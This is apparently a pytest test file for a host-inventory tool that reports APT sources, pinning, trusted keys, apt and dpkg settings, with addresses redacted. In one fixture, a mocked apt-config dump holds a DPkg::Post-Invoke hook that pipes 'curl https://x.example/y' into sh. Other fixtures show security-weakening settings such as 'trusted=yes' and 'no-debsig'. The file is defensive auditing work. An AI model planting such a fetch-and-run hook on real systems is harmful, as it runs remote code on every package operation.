"""Where packages come from, by whose word: sources, keys, settings, and what nobody's updates reach."""

import base64
from hashlib import sha1

import pytest

from amanat_host.state import owned, packages
from amanat_host.state.listing import Listing

KEY = b"\x04" + b"\0\0\0\0" + b"\x16" + b"key"


@pytest.fixture(autouse=True)
def packaged(monkeypatch):
    """Paths that packages brought, by package."""
    paths = {}
    monkeypatch.setattr(owned, "packages_by_path", lambda: paths)
    return paths


@pytest.fixture
def host(monkeypatch):
    """host(files, outputs): texts by path, and the output of each program by its name."""

    def made(files=(), outputs=()):
        files, outputs = dict(files), dict(outputs)
        monkeypatch.setattr(packages, "text", lambda path: files.get(str(path), ""))
        monkeypatch.setattr(
            packages, "output", lambda program, *_rest: outputs.get(program.rpartition("/")[2], "")
        )
        places = {
            "/etc/apt/sources.list.d/*": [
                path for path in files if path.startswith("/etc/apt/sources.list.d/")
            ]
        }
        monkeypatch.setattr(packages.glob, "glob", lambda pattern: places.get(pattern, []))

    return made


def told(read):
    listing = Listing()
    read(listing)
    return listing.items


def test_sources_are_told_without_the_mirrors_address(host):
    stanza = (
        "# note\nTypes: deb deb-src\nURIs: https://mirror.example/debian\nSuites: trixie\n  trixie-updates\n"
    )
    stanza += "Components: main\nSigned-By: /k.gpg\n\nTypes: deb\nEnabled: no\nURIs: http://off.example\nSuites: x\n"
    lists = (
        "# deb http://off.example x main\ndeb [trusted=yes Arch=amd64] http://a.example trixie main contrib\n"
    )
    host(
        {"/etc/apt/sources.list": lists, "/etc/apt/sources.list.d/a.sources": stanza},
        {"apt-cache": " 500 http://a\n"},
    )
    found = told(packages.read_sources)
    assert found == {
        "package source deb trixie main": "http arch=amd64 trusted=yes",
        "package source deb trixie contrib": "http arch=amd64 trusted=yes",
        "package source deb trixie main #2": "http signed-by=/k.gpg",
        "package source deb trixie-updates main": "http signed-by=/k.gpg",
        "package source deb-src trixie main": "http signed-by=/k.gpg",
        "package source deb-src trixie-updates main": "http signed-by=/k.gpg",
    }
    assert "example" not in str(found)


def test_pins_and_other_priorities_are_told(host):
    policy = (
        "Package files:\n 100 /var/lib/dpkg/status\n     release a=now\n"
        " 990 http://a.example/d trixie/main amd64 Packages\n"
        "     release v=13\nPinned packages:\n     openssl -> 1.0 with priority 1001\n"
    )
    host(
        {"/etc/apt/preferences": "Package: openssl\nPin: version 1.0\nPin-Priority: 1001\n"},
        {"apt-cache": policy},
    )
    assert told(packages.read_sources) == {
        "package preference openssl version 1.0": "1001",
        "package priority of <uri> trixie/main amd64 Packages": "990",
        "package pinned": "openssl -> 1.0 with priority 1001",
    }


def test_empty_package_lists_are_told(host):
    host(
        {}, {"apt-cache": "Package files:\n 100 /var/lib/dpkg/status\n     release a=now\nPinned packages:\n"}
    )
    assert told(packages.read_sources) == {"package lists": "are empty"}


POLICY = """{name}:
  Installed: 1.0
  Candidate: {candidate}
  Version table:
     {newer}
 *** 1.0 100
        {source}100 /var/lib/dpkg/status
"""


@pytest.mark.parametrize(
    ("candidate", "source", "unknown"),
    [
        ("1.0", "", ["x"]),
        ("1.0", "500 http://a.example trixie/main amd64 Packages\n        ", []),
        ("1.1", "", []),
    ],
    ids=["of no source", "of a source", "waits for its update"],
)
def test_a_package_that_no_source_has_is_told(host, candidate, source, unknown):
    block = POLICY.format(name="x", candidate=candidate, newer="", source=source)
    after = POLICY.format(name="y", candidate="1.1", newer="1.1 500", source="")
    host({}, {"apt-cache": block + after})
    assert list(packages.unknown_to_sources(["x", "y"])) == unknown


def test_other_architectures_are_told(host):
    host({}, {"dpkg-query": "bash\nlibc6:amd64\n", "dpkg": "i386\n"})
    assert told(packages.read_installed) == {"foreign architecture i386": "enabled"}


@pytest.mark.parametrize("armoured", [False, True])
def test_a_key_that_no_package_brought_is_told_by_its_fingerprint(tmp_path, monkeypatch, armoured):
    signature = b"\xc2\x02ab"  # another packet, of the new format
    content = (
        b"\x99"
        + len(KEY).to_bytes(2, "big")
        + KEY
        + signature
        + b"\xc6"
        + bytes([len(KEY)])
        + KEY[:-1]
        + b"2"
    )
    if armoured:
        block = "-----BEGIN PGP PUBLIC KEY BLOCK-----\nComment: x\n\n{}\n=abcd\n-----END PGP PUBLIC KEY BLOCK-----\n"
        content = block.format(base64.encodebytes(content).decode().strip()).encode()
    path = tmp_path / "k.gpg"
    path.write_bytes(content)
    bodies = (KEY, KEY[:-1] + b"2")
    expected = [sha1(b"\x99" + len(body).to_bytes(2, "big") + body).hexdigest().upper() for body in bodies]  # noqa: S324
    assert packages.fingerprints(path) == expected
    monkeypatch.setattr(packages, "KEYRINGS", (str(path),))
    assert set(told(packages.read_keys)) == {f"package key {one}" for one in expected}


def test_a_keyring_of_a_package_is_told_by_the_package(tmp_path, monkeypatch, packaged):
    path = tmp_path / "k.gpg"
    path.touch()
    packaged[str(path)] = "debian-archive-keyring"
    monkeypatch.setattr(packages, "KEYRINGS", (str(path),))
    assert told(packages.read_keys) == {"package keys of debian-archive-keyring": "are trusted"}


def test_settings_and_hooks_of_apt_are_told_without_addresses(host):
    dump = (
        'APT "";\nAPT::Get::AllowUnauthenticated "0";\nDPkg::Post-Invoke:: "curl https://x.example/y | sh";\n'
    )
    dump += 'Binary "apt-config";\nAcquire::http::Proxy "http://proxy.example:3128";\n'
    host({}, {"apt-config": dump})
    assert told(packages.read_apt) == {
        "apt setting APT::Get::AllowUnauthenticated": "0",
        "apt setting DPkg::Post-Invoke:: curl <uri> | sh": "is set",
        "apt setting Acquire::http::Proxy": "<uri>",
    }


def test_what_dpkg_was_told_is_told(host, monkeypatch):
    monkeypatch.setattr(packages.os.path, "islink", lambda path: path.endswith("awk"))
    monkeypatch.setattr(packages.os, "readlink", lambda _path: "/tmp/awk")
    outputs = {
        "dpkg-divert": "local diversion of /a to /b\ndiversion of /lib/c to /lib/c.usr-is-merged by libc6\n",
        "dpkg-statoverride": "root root 4755 /usr/bin/my tool\n",
        "update-alternatives": "awk    auto     /usr/bin/mawk\n",
    }
    host({"/etc/dpkg/dpkg.cfg": "# note\nno-debsig\n"}, outputs)
    assert told(packages.read_dpkg) == {
        "dpkg setting no-debsig": "is set",
        "local diversion of /a to /b": "is there",
        "mode kept by dpkg /usr/bin/my tool": "root:root 4755",
        "alternative awk": "auto /usr/bin/mawk, but /tmp/awk",
    }
